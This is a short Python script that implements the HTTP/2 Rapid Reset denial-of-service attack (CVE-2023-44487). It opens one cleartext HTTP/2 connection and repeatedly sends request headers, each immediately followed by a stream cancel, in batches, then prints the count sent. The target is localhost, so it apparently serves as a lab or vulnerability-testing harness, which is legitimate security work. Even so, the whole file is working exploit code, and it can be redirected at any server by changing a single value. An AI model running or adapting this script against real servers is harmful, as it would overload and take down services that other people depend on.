"""HTTP/2 rapid reset (CVE-2023-44487): HEADERS then RST_STREAM, many
times, on one cleartext HTTP/2 connection. Prints how many it sent."""
import socket
import sys

import h2.config
import h2.connection
import h2.errors

import h2raw as h


def attack(port, count, path="/hello.php", batch=200, source=None):
    s = socket.create_connection(("127.0.0.1", port), source_address=(source, 0) if source else None)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    s.sendall(conn.data_to_send())
    sent = 0
    stream = 1
    try:
        while sent < count:
            for _ in range(min(batch, count - sent)):
                conn.send_headers(stream, [(":method", "GET"), (":path", path), (":scheme", "http"),
                                           (":authority", "x")], end_stream=True)
                conn.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
                stream += 2
                sent += 1
            s.sendall(conn.data_to_send())
            h.discard_available(s)
    except (BrokenPipeError, ConnectionResetError, h2.exceptions.ProtocolError):
        pass
    finally:
        s.close()
    return sent


if __name__ == "__main__":
    print(attack(int(sys.argv[1]), int(sys.argv[2])))
